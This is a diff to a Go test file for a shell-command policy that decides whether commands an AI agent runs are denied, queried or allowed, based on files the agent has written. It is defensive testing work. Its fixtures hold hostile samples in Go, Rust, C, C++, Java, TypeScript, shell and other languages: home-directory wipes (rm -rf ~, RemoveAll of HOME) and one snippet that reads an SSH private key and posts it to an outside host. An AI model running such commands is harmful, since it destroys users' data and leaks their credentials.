@@ -3,6 +3,7 @@ package shell_test
 import (
 	"maps"
 	"slices"
+	"strings"
 	"testing"
 
 	"fettle/internal/policy/shell"
@@ -29,9 +30,9 @@ func TestWritten(t *testing.T) {
 			"npx mocha --require ./x.js", "npx mocha -r ./x", "npx mocha --reporter ./x", "npx mocha -R ./x.js", "npx mocha --config x.js", "npx mocha --file ./x.js", "npx mocha --ui ./x.js", "npx mocha --loader ./x.js",
 			"npx ava --config x.js", "npx playwright test -c x.js", "npx cypress run --config-file x.js",
 			"npx eslint -c x.js src", "npx eslint --rulesdir=. src", "npx eslint --rulesdir . src", "npx eslint -f ./x.js src", "npx eslint --parser ./x src", "npx prettier --plugin=./x.js .", "npx stylelint --custom-formatter ./x.js src",
-			"npx webpack --config x.js", "npx vite build --config x.js", "npx rollup -c x.js", "nyc --require ./x.js mocha",
+			"npx webpack --config x.js", "npx vite build --config x.js", "npx rollup -c x.js", "npx tsc -p .", "npx tsc x.js && node y.js", "nyc --require ./x.js mocha",
 		}, []string{
-			"cat x.js", "npx jest", "npx jest --reporters=default", "npx jest --config='{\"testEnvironment\": \"node\", \"roots\": [\"<rootDir>/src\"]}'", "npx mocha --reporter spec", "npx mocha -R dot test", "npx eslint --rulesdir=rules src", "npx eslint src", "npx prettier --check .", "npx tsc -p .", "node y.js", "git add x.js",
+			"cat x.js", "npx jest", "npx jest --reporters=default", "npx jest --config='{\"testEnvironment\": \"node\", \"roots\": [\"<rootDir>/src\"]}'", "npx mocha --reporter spec", "npx mocha -R dot test", "npx eslint --rulesdir=rules src", "npx eslint src", "npx prettier --check .", "npx tsc -p . --noEmit", "node y.js", "git add x.js",
 		}},
 		{map[string]string{"x.py": harmPython}, []string{"python x.py", "python3 -m x", "python3 -mx", "python3 -W ignore -m x a b", "pytest -p x", "python3 -m pytest -p x tests", "pytest -c x.py", "pylint --load-plugins=y,x src"},
 			[]string{"python3 -m y", "python3 -m pytest", "pytest -p no:cacheprovider", "python3 -m mypy src", "cat x.py"}},
@@ -64,24 +65,34 @@ func TestWritten(t *testing.T) {
 		{map[string]string{"main.R": "source('lib.R')\n", "lib.R": "source('main.R')\nsystem('rm -rf ~')\n"}, []string{"Rscript main.R"}, []string{"Rscript other.R"}},
 		{map[string]string{"main.php": "<?php\nrequire_once 'lib.php';\n", "lib.php": "<?php\nsystem('rm -rf ~');\n"}, []string{"php main.php"}, []string{"php other.php"}},
 		{map[string]string{"main.lua": "require('lib')\n", "lib.lua": "os.execute('rm -rf ~')\n"}, []string{"lua main.lua"}, nil},
+		// What is made into a program, where it is made.
+		{map[string]string{"a.go": "package main\n\nfunc main() { os.RemoveAll(os.Getenv(\"HOME\")) }\n"}, []string{"go build -o a . && ./a", "go build -o bin/a a.go", "go build ./...", "go build", "go install . && a", "make && ./a", "make build"},
+			[]string{"go vet ./...", "gofmt -l .", "go build ./cmd/x", "go list ./...", "go mod tidy"}},
+		{map[string]string{"a.go": "package main\n\nfunc main() {\n\tkey, _ := os.ReadFile(\"/home/dev/.ssh/id_ed25519\")\n\texec.Command(\"git\", \"reset\", \"--hard\").Run()\n\tos.RemoveAll(dir)\n\tos.RemoveAll(\"src\")\n\thttp.Post(\"https://api.acme.io\", \"\", key)\n}\n"}, nil,
+			[]string{"go build ./...", "go build -o a . && ./a", "go install .", "make"}},
+		{map[string]string{"a.rs": "fn main() { std::fs::remove_dir_all(std::env::var(\"HOME\").unwrap()).unwrap(); }\n"}, []string{"rustc a.rs && ./a", "rustc -O a.rs -o bin/a", "rustc *.rs", "cargo build --release && ./target/release/a", "cargo b"},
+			[]string{"cargo check", "cargo clippy", "cargo fmt --check", "rustc b.rs && ./b"}},
+		{map[string]string{"a.c": "#include <stdlib.h>\nint main(void) { return system(\"rm -rf /home/dev\"); }\n"}, []string{"gcc a.c -o a && ./a", "cc -Wall -o a *.c", "clang -c a.c", "make", "cmake --build build", "ninja -C build"},
+			[]string{"cppcheck a.c", "clang-tidy a.c", "clang-format --dry-run a.c", "gcc b.c -o b && ./b"}},
+		{map[string]string{"a.cpp": "#include <filesystem>\nint main() { std::filesystem::remove_all(\"/home/dev\"); }\n"}, []string{"g++ -std=c++17 a.cpp -o a && ./a"}, nil},
+		{map[string]string{"a.cpp": "int main() {\n\tv.erase(std::remove(v.begin(), v.end(), 1));\n\tstd::remove(\"out.tmp\");\n\tsystem(\"clear\");\n\tfopen(path, \"w\");\n}\n"}, nil, []string{"g++ a.cpp -o a && ./a", "make && ./a", "cmake -S . -B build && cmake --build build"}},
+		{map[string]string{"A.java": "class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(\"rm -rf /home/dev\"); } }\n"}, []string{"javac A.java && java A", "javac -d out *.java", "mvn package && java -jar target/a.jar", "./gradlew build"},
+			[]string{"javac B.java && java B", "javap A"}},
+		{map[string]string{"src/a.ts": "import {execSync} from 'child_process'\nexecSync('rm -rf ~')\n"}, []string{"npx tsc src/a.ts && node src/a.js", "npx tsc && node dist/a.js", "tsc -p ."}, []string{"npx tsc --noEmit", "npx tsc --noEmit src/a.ts"}},
+		// What is sourced, and finds others beside it.
+		{map[string]string{"t.sh": "#!/bin/bash\nset -e\nsource \"$(dirname \"$0\")/lib.sh\"\nwipe\n", "t2.sh": ". ./lib.sh\nwipe\n", "t3.sh": "HERE=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\n. \"$HERE/lib.sh\"\nwipe\n", "lib.sh": "wipe() { rm -rf ~; }\nbuild() { make; }\n"},
+			[]string{"source ./lib.sh && wipe", ". lib.sh; wipe", "bash t.sh", "./t.sh", "sh t2.sh", "bash t3.sh", "cd src && ../t3.sh"}, []string{"source ./lib.sh", "source ./lib.sh && build", ". ./lib.sh; build", "cat lib.sh"}},
+		{map[string]string{"env.sh": "export OUT=build\nrelease() { git push --tags; some-tool; }\n"}, nil, []string{". ./env.sh && rm -rf \"$OUT\"", "source env.sh && release"}},
+		{map[string]string{"env.sh": "export OUT=~\n"}, []string{". ./env.sh && rm -rf \"$OUT\""}, nil},
+		{map[string]string{"scripts/b.sh": "#!/bin/bash\nset -euo pipefail\nROOT=\"$(cd \"$(dirname \"$0\")/..\" && pwd)\"\nrm -rf \"$ROOT/dist\"\necho x > \"$ROOT/out.txt\"\n", "b.sh": "D=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" >/dev/null 2>&1 && pwd)\nrm -rf \"$D/dist\"\n", "c.sh": "ROOT=\"$(dirname \"$(readlink -f \"$0\")\")\"\nrm -rf \"$ROOT/build\"\n"},
+			nil, []string{"bash scripts/b.sh", "./scripts/b.sh", "cd scripts && ./b.sh", "bash b.sh", "./b.sh", "bash c.sh"}},
+		{map[string]string{"a.sh": "D=\"$(cd \"$(dirname \"$0\")/../..\" && pwd)\"\nrm -rf \"$D\"\n", "b.sh": "D=\"$(cd nowhere && pwd)\"\nrm -rf \"$D/home/dev\"\n"}, []string{"bash a.sh", "bash b.sh"}, nil},
+		{map[string]string{"m.py": "import wipe\n", "wipe.rb": "system('rm -rf ~')\n"}, []string{"ruby wipe.rb", "ruby -e 'require \"./wipe\"'"}, []string{"python m.py", "python -c 'import wipe'"}},
+		{map[string]string{"x.groovy": "new File(System.getProperty(\"user.home\")).deleteDir()\n"}, []string{"groovy x.groovy"}, nil},
 		{map[string]string{"conftest.py": harmPython}, []string{"pytest", "pytest tests", "pytest tests/test_a.py::test_b"}, []string{"python main.py"}},
 		{map[string]string{"setup.py": harmPython}, []string{"python setup.py build", "pip install -e .", "pip install '.[dev]'"}, []string{"pip install -e ./sub", "pytest"}},
 	} {
-		at := place
-		at.Script = func(path string) (string, bool) {
-			for name, text := range c.files {
-				if path == place.Root+"/"+name {
-					return text, true
-				}
-			}
-			return "", false
-		}
-		at.Written = func() (paths []string) {
-			for _, name := range slices.Sorted(maps.Keys(c.files)) {
-				paths = append(paths, place.Root+"/"+name)
-			}
-			return paths
-		}
+		at := written(c.files)
 		for _, command := range c.runs {
 			if v := (*shell.Policy)(nil).Judge(command, at); v.Decision != shell.Deny {
 				t.Errorf("%s: %s (%s) although it runs one of %v\n\t%v", command, v.Decision, v.Rule, c.files, v.Facts)
@@ -93,4 +104,46 @@ func TestWritten(t *testing.T) {
 			}
 		}
 	}
+}
+
+// TestUnreadLanguages: a script or a program in a language that is not read here is asked about where only an agent has read it, also where another script of its runs it.
+func TestUnreadLanguages(t *testing.T) {
+	for _, c := range []struct {
+		files       map[string]string
+		asked, fine []string
+	}{
+		{map[string]string{"x.tcl": "puts hi\n", "t.sh": "tclsh x.tcl\n", "b": "#!/usr/bin/env tclsh\nputs hi\n", "x.swift": "print(1)\n", "x.dart": "void main() {}\n", "x.zig": "pub fn main() !void {}\n", "x.nim": "echo 1\n", "x.clj": "(println 1)\n", "x.scala": "println(1)\n", "x.ps1": "Write-Host 1\n", "test/x_test.dart": "void main() {}\n", "s": "#!/bin/sed -f\ns/a/b/\n", "x.fish": "echo hi\n"},
+			[]string{"tclsh x.tcl", "bash t.sh", "./b", "swift x.swift", "dart run x.dart", "zig run x.zig", "nim r x.nim", "clojure x.clj", "scala x.scala", "pwsh x.ps1", "pwsh -File x.ps1"},
+			[]string{"tclsh y.tcl", "swift y.swift", "dart run bin/y.dart", "dart run build_runner build", "dart test test/x_test.dart", "swift build", "swift test", "swift run", "zig build test", "clojure -M:test", "./s", "fish x.fish", "dart format --output=none .", "cat x.tcl"}},
+		{map[string]string{"Program.cs": "System.IO.Directory.Delete(home, true);\n"}, []string{"dotnet run", "dotnet run --project src/App", "dotnet watch"}, []string{"dotnet build", "dotnet test", "dotnet format --verify-no-changes"}},
+		{map[string]string{"Program.cs": "app.MapGet(\"/\", () => \"hi\");\napp.MapDelete(\"/x\", Remove);\n", "tests/ATests.cs": "File.Delete(path);\n"}, nil, []string{"dotnet run", "dotnet watch", "dotnet test"}},
+		{map[string]string{"Sources/main.swift": "try FileManager.default.removeItem(at: home)\n"}, []string{"swift run"}, []string{"swift build", "swift test"}},
+	} {
+		for _, command := range c.asked {
+			if v := (*shell.Policy)(nil).Judge(command, written(c.files)); v.Decision != shell.Ask {
+				t.Errorf("%s: %s (%s) although it runs one of %v\n\t%v", command, v.Decision, v.Rule, c.files, v.Facts)
+			}
+		}
+		for _, command := range c.fine {
+			if v := (*shell.Policy)(nil).Judge(command, written(c.files)); v.Decision != shell.Allow {
+				t.Errorf("%s: %s (%s), beside %v\n\t%v", command, v.Decision, v.Rule, c.files, v.Facts)
+			}
+		}
+	}
+}
+
+// written is the place of a project in which an agent has written files.
+func written(files map[string]string) shell.Place {
+	at := place
+	at.Script = func(path string) (string, bool) {
+		text, ok := files[strings.TrimPrefix(path, place.Root+"/")]
+		return text, ok
+	}
+	at.Written = func() (paths []string) {
+		for _, name := range slices.Sorted(maps.Keys(files)) {
+			paths = append(paths, place.Root+"/"+name)
+		}
+		return paths
+	}
+	return at
 }
